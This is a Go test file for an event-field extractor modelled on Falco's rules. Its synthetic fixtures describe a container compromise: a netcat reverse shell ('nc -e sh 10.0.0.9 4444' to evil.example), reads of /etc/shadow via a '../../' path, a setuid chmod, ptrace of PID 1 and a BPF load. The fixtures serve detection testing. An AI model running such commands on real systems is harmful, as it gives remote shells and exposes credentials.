package event_test

import (
	"testing"

	"github.com/stoop-project/stoop/internal/event"
)

// fieldCase says what a field is in an event.
type fieldCase struct{ field, want string }

// sceneCases are the events of the scene and what fields say of them. Together
// they read every field that Falco's rules use.
func sceneCases(t testing.TB, s *scene) []struct {
	row   event.Row
	cases []fieldCase
} {
	str := s.t.Strings.Add
	opened := s.open(t, 0o2000000|0x200, 3) // O_RDONLY|O_TRUNC|O_CLOEXEC
	denied := s.open(t, 1|0x40, -13)
	connected := s.connect(t)

	s.args.Str(str("/etc/passwd"))
	s.args.Int(-100)
	s.args.Str(str("l"))
	symlinked := s.add(t, "symlinkat", 0, -1, 0)

	s.args.Str(str("a"))
	s.args.Str(str("/tmp/b"))
	renamed := s.add(t, "rename", -2, -1, 0)

	s.args.Uint(17) // AF_PACKET
	s.args.Uint(3)
	s.args.Uint(0)
	socket := s.add(t, "socket", -1, -1, 0)

	s.args.Uint(0)
	s.args.Uint(0)
	s.args.Uint(16) // PTRACE_ATTACH
	s.args.Int(1)
	traced := s.add(t, "ptrace", 0, -1, 0)

	s.args.Str(str("/tmp/suid"))
	s.args.Uint(0o4755)
	chmod := s.add(t, "chmod", 0, -1, 0)

	s.args.Str(str("/usr/bin/nc"))
	execed := s.add(t, "execve", 0, -1, 0)

	s.args.Bytes([]byte("GET / HTTP/1.1\r\n"), false)
	s.args.Int(5)
	s.args.Uint(16)
	wrote := s.add(t, "write", 16, 5, s.conn)

	s.args.Uint(5)
	bpf := s.add(t, "bpf", 7, 7, 0)

	s.args.Uint(0)
	setuid := s.add(t, "setuid", 0, -1, 0)

	s.args.Str(str("/srv"))
	mkdir := s.add(t, "mkdir", -17, -1, 0)

	return []struct {
		row   event.Row
		cases []fieldCase
	}{
		{opened, []fieldCase{
			{"evt.num", "1"},
			{"evt.type", "openat"},
			{"evt.time", "22:13:20.000000000"},
			{"evt.time.iso8601", "2023-11-14T22:13:20.000000000+0000"},
			{"evt.datetime.s", "2023-11-14 22:13:20"},
			{"evt.rawtime", "1700000000000000000"},
			{"evt.rawtime.s", "1700000000"},
			{"evt.reltime", "0"},
			{"evt.deltatime", "0"},
			{"evt.res", "SUCCESS"},
			{"evt.rawres", "3"},
			{"evt.failed", "false"},
			{"evt.category", "file"},
			{"evt.cpu", "3"},
			{"evt.hostname", "node-1"},
			{"evt.source", "syscall"},
			{"evt.dir", "<"},
			{"syscall.type", "openat"},
			{"evt.latency", "12345"},
			{"evt.latency.human", "12.35us"},
			{"evt.type.is.openat", "1"},
			{"evt.type.is[open]", "0"},
			{"evt.count.error", "0"},
			{"evt.is_open_read", "true"},
			{"evt.is_open_write", "false"},
			{"evt.is_open_exec", "false"},
			{"evt.is_open_create", "false"},
			{"evt.arg.flags", "O_RDONLY|O_TRUNC|O_CLOEXEC|FD_UPPER_LAYER"},
			{"evt.arg.mode", "0644"},
			{"evt.arg.fd", "<f>/etc/shadow"},
			{"evt.arg.dirfd", "AT_FDCWD"},
			{"evt.arg.name", "/etc/shadow"},
			{"evt.arg[2]", "/etc/shadow"},
			{"evt.rawarg.name", "../../etc/shadow"},
			{"evt.rawarg.flags", "524800"},
			{"evt.arg.ino", "42"},
			{"evt.arg.nothing", "<NA>"},
			{"evt.arg[99]", "<NA>"},
			{"evt.abspath.dst", "/etc/shadow"},
			{
				"evt.args",
				"fd=3(<f>/etc/shadow) dirfd=-100(AT_FDCWD) name=../../etc/shadow(/etc/shadow) flags=524800(O_RDONLY|O_TRUNC|O_CLOEXEC|FD_UPPER_LAYER) mode=0644 dev=0x800001 ino=42",
			},
			{"fd.num", "3"},
			{"fd.type", "file"},
			{"fd.typechar", "f"},
			{"fd.name", "/etc/shadow"},
			{"fd.nameraw", "../../etc/shadow"},
			{"fd.directory", "/etc"},
			{"fd.filename", "shadow"},
			{"fd.dev.major", "8"},
			{"fd.dev.minor", "1"},
			{"fd.ino", "42"},
			{"fd.is_upper_layer", "true"},
			{"fd.uid", "12013"},
			{"fd.containername", "4bcd77f18132:/etc/shadow"},
			{"fd.containerdirectory", "4bcd77f18132:/etc"},
			{"fd.l4proto", "<NA>"},
			{"fd.sip", "<NA>"},
			{"fd.connected", "false"},
			{"fd.name_changed", "false"},
			{"fd.types", "(file)"},
			{"fs.path.name", "/etc/shadow"},
			{"fs.path.nameraw", "../../etc/shadow"},
			{"fs.path.source", "<NA>"},
			{"proc.name", "nc"},
			{"proc.exe", "/usr/bin/nc"},
			{"proc.exepath", "/usr/bin/nc.traditional"},
			{"proc.args", "-e sh 10.0.0.9 4444"},
			{"proc.args[1]", "sh"},
			{"proc.args[4]", "<NA>"},
			{"proc.cmdline", "nc -e sh 10.0.0.9 4444"},
			{"proc.exeline", "/usr/bin/nc -e sh 10.0.0.9 4444"},
			{"proc.cmdnargs", "4"},
			{"proc.cmdlenargs", "16"},
			{"proc.pname", "sh"},
			{"proc.pexe", "sh"},
			{"proc.pexepath", "/bin/dash"},
			{"proc.pcmdline", "sh -c nc -e sh 10.0.0.9 4444"},
			{"proc.aname", "sh nginx containerd-shim"},
			{"proc.aname[0]", "nc"},
			{"proc.aname[1]", "sh"},
			{"proc.aname[2]", "nginx"},
			{"proc.aname[3]", "containerd-shim"},
			{"proc.aname[4]", "<NA>"},
			{"proc.aname[5]", "<NA>"},
			{"proc.aname[6]", "<NA>"},
			{"proc.aname[7]", "<NA>"},
			{"proc.aexe[2]", "nginx"},
			{"proc.aexepath[2]", "/usr/sbin/nginx"},
			{"proc.acmdline[2]", "nginx -g daemon off;"},
			{"proc.aargs[3]", ""},
			{"proc.apid", "1201"},
			{"proc.apid[1]", "1200"},
			{"proc.env[HOME]", "/root"},
			{"proc.env", "PATH=/bin HOME=/root"},
			{"proc.aenv[HOME]", "/root"},
			{"proc.env[NO]", "<NA>"},
			{"proc.loginshellid", "1200"},
			{"proc.cwd", "/srv/www/"},
			{"proc.tty", "34816"},
			{"proc.pid", "1201"},
			{"proc.ppid", "1200"},
			{"proc.vpid", "201"},
			{"proc.pvpid", "200"},
			{"proc.sid", "100"},
			{"proc.sname", "containerd-shim"},
			{"proc.pgid.name", "nc"},
			{"proc.is_sid_leader", "false"},
			{"proc.is_vpgid_leader", "true"},
			{"proc.duration", "1000000000"},
			{"proc.ppid.duration", "2000000000"},
			{"proc.is_exe_upper_layer", "true"},
			{"proc.is_exe_from_memfd", "false"},
			{"proc.exe_ino", "77"},
			{"proc.exe_ino.ctime", "1699999997000000000"},
			{"proc.exe_ino.mtime", "1699999996000000000"},
			{"proc.exe_ino.ctime_duration_proc_start", "2000000000"},
			{"proc.exe_ino.ctime_duration_pidns_start", "58000000000"},
			{"thread.cap_effective", "CAP_CHOWN CAP_SYS_ADMIN"},
			{"thread.cap_permitted", "CAP_CHOWN"},
			{"thread.cap_inheritable", ""},
			{"thread.tid", "1201"},
			{"thread.ismain", "true"},
			{"thread.vtid", "201"},
			{"thread.cgroup.memory", "/kubepods/b"},
			{"thread.nametid", "nc1201"},
			{"user.uid", "0"},
			{"user.name", "root"},
			{"user.loginuid", "-1"},
			{"user.loginname", "<NA>"},
			{"user.homedir", "/root"},
			{"group.gid", "0"},
			{"group.name", "root"},
			{"container.id", "4bcd77f18132"},
			{"container.name", "web"},
			{"container.type", "containerd"},
			{"container.image.repository", "docker.io/shop/web"},
			{"container.image.tag", "2.4.1"},
			{"container.privileged", "true"},
			{"container.host_pid", "false"},
			{"container.start_ts", "1699999939000000000"},
			{"container.duration", "61000000000"},
			{"container.mounts", "/etc:/host/etc:ro:false:rprivate,/proc/1:/host/proc::true:rslave"},
			{"container.mount[0]", "/etc:/host/etc:ro:false:rprivate"},
			{"container.mount[/no]", "none"},
			{"container.mount.dest[/etc]", "/host/etc"},
			{"container.mount.dest[/proc*]", "/host/proc"},
			{"container.mount.dest[/]", "<NA>"},
			{"container.mount.source[/host/proc]", "/proc/1"},
			{"container.mount.rdwr[1]", "true"},
			{"container.mount.mode[/etc]", "ro"},
			{"container.mount.propagation[1]", "rslave"},
			{"container.mount.dest[/etc/kubernetes/manifests]", "<NA>"},
			{"container.mount.dest[/etc/kubernetes]", "<NA>"},
			{"container.mount.dest[/home/admin]", "<NA>"},
			{"container.mount.dest[/root*]", "<NA>"},
			{"container.mount.dest[/run/containerd/containerd.sock]", "<NA>"},
			{"container.mount.dest[/var/lib/kubelet/pki]", "<NA>"},
			{"container.mount.dest[/var/lib/kubelet]", "<NA>"},
			{"container.mount.dest[/var/run/crio/crio.sock]", "<NA>"},
			{"container.mount.dest[/var/run/docker.sock]", "<NA>"},
			{"container.ip", "10.1.2.3"},
			{"container.label[io.kubernetes.pod.name]", "web-0"},
			{"container.labels", "io.kubernetes.pod.name:web-0"},
			{"k8s.ns.name", "shop"},
			{"k8s.pod.name", "web-0"},
			{"k8s.pod.uid", "3e41"},
			{"k8s.pod.sandbox_id", "0123456789ab"},
			{"k8s.pod.labels", "app:web, tier:front"},
			{"k8s.pod.label.tier", "front"},
		}},
		{denied, []fieldCase{
			{"evt.res", "EACCES"},
			{"evt.rawres", "-13"},
			{"evt.failed", "true"},
			{"fd.num", "-1"},
			{"fd.name", "/etc/shadow"},
			{"evt.is_open_write", "true"},
			{"evt.is_open_read", "false"},
			{"evt.deltatime", "1000000"},
			{"evt.reltime", "1000000"},
			{"evt.arg.fd", "EACCES"},
			{"evt.count.error.file", "1"},
			{"evt.count.error.net", "0"},
			{"fs.path.name", "<NA>"},
			{"evt.around[1700000000000000000]", "1"},
			{"evt.is_open_create", "false"},
		}},
		{connected, []fieldCase{
			{"fd.name", "10.1.2.3:37352->10.0.0.9:4444"},
			{"fd.type", "ipv4"},
			{"fd.typechar", "4"},
			{"fd.cip", "10.1.2.3"},
			{"fd.sip", "10.0.0.9"},
			{"fd.lip", "10.1.2.3"},
			{"fd.rip", "10.0.0.9"},
			{"fd.cport", "37352"},
			{"fd.sport", "4444"},
			{"fd.lport", "37352"},
			{"fd.rport", "4444"},
			{"fd.l4proto", "tcp"},
			{"fd.sockfamily", "ip"},
			{"fd.is_server", "false"},
			{"fd.connected", "true"},
			{"fd.name_changed", "true"},
			{"fd.ip", "(10.1.2.3,10.0.0.9)"},
			{"fd.net", "(10.1.2.3,10.0.0.9)"},
			{"fd.port", "(37352,4444)"},
			{"fd.cnet", "10.1.2.3"},
			{"fd.snet", "10.0.0.9"},
			{"fd.rnet", "10.0.0.9"},
			{"fd.sproto", "4444"},
			{"fd.sip.name", "evil.example"},
			{"fd.rip.name", "evil.example"},
			{"fd.cip.name", "<NA>"},
			{"fd.lip.name", "<NA>"},
			{"fd.directory", "<NA>"},
			{"fd.filename", "<NA>"},
			{"fd.nameraw", "<NA>"},
			{"evt.category", "net"},
			{"evt.args", "res=0 tuple=10.1.2.3:37352->10.0.0.9:4444 fd=5(<4t>10.1.2.3:37352->10.0.0.9:4444)"},
		}},
		{symlinked, []fieldCase{
			{"evt.arg.target", "/etc/passwd"}, {"evt.arg.linkpath", "/srv/www/l"}, {"evt.rawarg.linkpath", "l"}, {"fs.path.source", "/srv/www/l"}, {"fs.path.sourceraw", "l"}, {"fs.path.target", "/etc/passwd"},
		}},
		{renamed, []fieldCase{
			{"evt.arg.oldpath", "/srv/www/a"}, {"evt.arg.newpath", "/tmp/b"}, {"evt.args", "res=-2(ENOENT) oldpath=a(/srv/www/a) newpath=/tmp/b"}, {"fs.path.source", "<NA>"}, {"evt.abspath.src", "/srv/www/a"},
		}},
		{socket, []fieldCase{
			{"evt.arg.domain", "AF_PACKET"}, {"evt.arg.type", "SOCK_RAW"}, {"evt.rawarg.type", "3"}, {"fd.num", "-1"}, {"evt.args", "fd=-1(EPERM) domain=17(AF_PACKET) type=3(SOCK_RAW) proto=0"},
		}},
		{traced, []fieldCase{{"evt.arg.request", "PTRACE_ATTACH"}, {"evt.arg.pid", "1"}}},
		{chmod, []fieldCase{
			{"evt.arg.filename", "/tmp/suid"}, {"evt.arg.mode", "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID"}, {"fs.path.name", "/tmp/suid"},
		}},
		{execed, []fieldCase{
			{"evt.arg.flags", "EXE_WRITABLE|EXE_UPPER_LAYER"}, {"evt.rawarg.flags", "3"}, {"evt.arg.exe", "/usr/bin/nc"}, {"evt.arg.comm", "nc"}, {"evt.arg.res", "0"}, {"evt.arg.filename", "/usr/bin/nc"},
		}},
		{wrote, []fieldCase{
			{"evt.buffer", "GET / HTTP/1.1\r\n"},
			{"evt.arg.data", "GET / HTTP/1.1.."},
			{"evt.buflen", "16"},
			{"evt.is_io", "true"},
			{"evt.is_io_write", "true"},
			{"evt.is_io_read", "false"},
			{"evt.io_dir", "w"},
			{"evt.category", "net"},
			{"evt.buflen.net.out", "16"},
			{"evt.buflen.file", "<NA>"},
		}},
		{bpf, []fieldCase{{"evt.arg.cmd", "BPF_PROG_LOAD"}}},
		{setuid, []fieldCase{{"evt.arg.uid", "0"}}},
		{mkdir, []fieldCase{{"evt.arg.path", "/srv"}, {"evt.args", "res=-17(EEXIST) path=/srv"}}},
	}
}

func TestFields(t *testing.T) {
	for _, e := range sceneCases(t, newScene()) {
		for _, c := range e.cases {
			if got := text(t, e.row, c.field); got != c.want {
				t.Errorf("%s of %s is %q, want %q", c.field, e.row.Type, got, c.want)
			}
		}
	}
}

// TestRuleFieldsAreRead makes sure that the cases read every field that the
// public Falco rules use.
func TestRuleFieldsAreRead(t *testing.T) {
	read := map[string]bool{}
	for _, e := range sceneCases(t, newScene()) {
		for _, c := range e.cases {
			read[c.field] = true
		}
	}
	type usage struct {
		Field string `json:"field"`
	}
	all := loadJSON[usage](t, "rules/fields-usage.json")
	for _, u := range all {
		if !read[u.Field] {
			t.Errorf("no case reads %s", u.Field)
		}
	}
	if len(all) != 108 {
		t.Errorf("fields-usage.json names %d fields, want 108", len(all))
	}
}

// TestHostContainer: what runs in no container has a name, and empty image
// parts, as in Falco's alerts.
func TestHostContainer(t *testing.T) {
	tab := event.NewTables()
	host := tab.Conts.Add(event.Container{ID: tab.Strings.Add(event.HostID), Flags: event.ContHost})
	b := event.NewBatch(tab, 1, 1)
	b.Append(event.Event{Time: 1, Proc: event.ProcID(tab.Procs.Add(event.Proc{Cont: event.ContID(host)})), FD: -1, Dur: -1}, nil)
	for _, c := range []fieldCase{
		{"container.id", "host"},
		{"container.name", "host"},
		{"container.type", "host"},
		{"container.image.repository", ""},
		{"container.image.tag", ""},
		{"container.privileged", "<NA>"},
		{"container.start_ts", "<NA>"},
		{"k8s.pod.name", "<NA>"},
		{"container.image.digest", "<NA>"},
	} {
		if got := text(t, b.Row(0), c.field); got != c.want {
			t.Errorf("%s of the host is %q, want %q", c.field, got, c.want)
		}
	}
}

// TestAncestorLoop: a lineage that lies must not be walked forever.
func TestAncestorLoop(t *testing.T) {
	tab := event.NewTables()
	p := event.Proc{Parent: 1, Name: tab.Strings.Add("ouroboros"), PID: 1, Known: event.KnowPID | event.KnowSession}
	id := event.ProcID(tab.Procs.Add(p))
	r := tab.ProcRow(id)
	for _, field := range []string{"proc.aname", "proc.loginshellid", "proc.sname", "proc.aenv[X]"} {
		f, a, err := event.Fields.Parse(field)
		if err != nil {
			t.Fatal(err)
		}
		if v, _ := f.Get(r, a); len(v.List) > event.MaxAncestors {
			t.Errorf("%s has %d values", field, len(v.List))
		}
	}
}
